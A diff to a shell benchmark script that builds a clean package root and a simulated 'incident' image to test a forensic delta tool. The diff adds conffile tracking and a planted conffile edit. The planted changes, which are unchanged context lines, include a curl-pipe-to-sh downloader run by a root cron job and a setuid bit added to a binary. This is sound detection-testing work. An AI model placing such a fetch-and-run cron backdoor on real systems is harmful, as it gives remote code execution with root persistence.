@@ -4,11 +4,12 @@
 #
 # Gold: an ext4 root of PACKAGES real packages (.debs from DEBS, default the apt cache),
 # unpacked with dpkg-deb -x and given the dpkg database dpkg writes (info/PKG.list,
-# info/PKG.md5sums, status). Incident: UPGRADE of them upgraded to newer .debs (each rebuilt
+# info/PKG.md5sums, status with each package's Conffiles and their MD5s). Incident: UPGRADE of them upgraded to newer .debs (each rebuilt
 # with a new version and every regular file changed, as a rebuild changes them), dpkg.log
 # grown, and five planted changes: a packaged binary modified (its package untouched), a
 # binary modified with its md5sums rewritten to match, a setuid bit added to a packaged
-# binary, two unpackaged files added. A known-good set is built from all the .debs, old and
+# binary, two unpackaged files added, and a conffile of an untouched package edited (when one
+# has a conffile). A known-good set is built from all the .debs, old and
 # new. Prints: the delta, how much is explained (by reason and trust), what is left
 # unexplained (it must be the plants), and scan time with provenance on and off (RUNS runs
 # each, median wall and user+sys CPU; the overhead should be at most 15%).
@@ -27,6 +28,18 @@ dir=$(mktemp -d /var/tmp/deltair-prov-bench.XXXXXX)
 trap 'rm -rf "$dir"' EXIT
 cd "$dir"
 
+# conffiles DEB ROOT: the Conffiles field dpkg writes (each conffile's MD5 as installed).
+conffiles()
+{
+	local c
+	c=$(dpkg-deb --ctrl-tarfile "$1" | tar -xO ./conffiles 2> /dev/null | grep '^/' || true)
+	[ -n "$c" ] || return 0
+	echo "Conffiles:"
+	while read -r f; do
+		[ -f "$2$f" ] && printf ' %s %s\n' "$f" "$(md5sum < "$2$f" | cut -d' ' -f1)"
+	done <<< "$c"
+}
+
 # install_deb ROOT DEB: what dpkg -i leaves, without maintainer scripts.
 install_deb()
 {
@@ -41,7 +54,11 @@ install_deb()
 		> "$root/var/lib/dpkg/info/$base.list"
 	dpkg-deb --ctrl-tarfile "$deb" | tar -xO ./md5sums > "$root/var/lib/dpkg/info/$base.md5sums" \
 		2> /dev/null || rm -f "$root/var/lib/dpkg/info/$base.md5sums"
-	{ dpkg-deb -f "$deb"; echo "Status: install ok installed"; } > "ctl-$root/$base"
+	{
+		dpkg-deb -f "$deb"
+		echo "Status: install ok installed"
+		conffiles "$deb" "$root"
+	} > "ctl-$root/$base"
 	printf '%s %s install %s:%s %s\n' "2026-12-01 10:00:00" "$pkg" "$arch" \
 		"$(dpkg-deb -f "$deb" Version)" "$(dpkg-deb -f "$deb" Version)" \
 		>> "$root/var/log/dpkg.log"
@@ -111,8 +128,13 @@ chmod u+s "incident$b3"                                                        #
 printf '#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n' > incident/usr/local/bin/update-check
 chmod 755 incident/usr/local/bin/update-check
 printf '* * * * * root /usr/local/bin/update-check\n' > incident/etc/cron.d/update-check
+# A conffile of a package the upgrade did not touch, edited (dpkg would keep the edit).
+conf=$(for d in $(ls debs/*.deb | tail -n 20); do
+	dpkg-deb --ctrl-tarfile "$d" | tar -xO ./conffiles 2> /dev/null | grep '^/' || true
+done | while read -r f; do [ -f "incident$f" ] && echo "$f"; done | tail -n 1)
+[ -z "$conf" ] || printf '\n# planted\n' >> "incident$conf"
 echo "incident: $up packages upgraded; planted: $b1 (modified), $b2 (+ md5sums), $b3 (setuid)," \
-	"/usr/local/bin/update-check, /etc/cron.d/update-check"
+	"/usr/local/bin/update-check, /etc/cron.d/update-check, ${conf:-no conffile} (edited)"
 
 size=$(( $(du -sm incident | cut -f1) * 3 / 2 + 64 ))M
 mke2fs -q -F -t ext4 -d gold gold.img "$size"
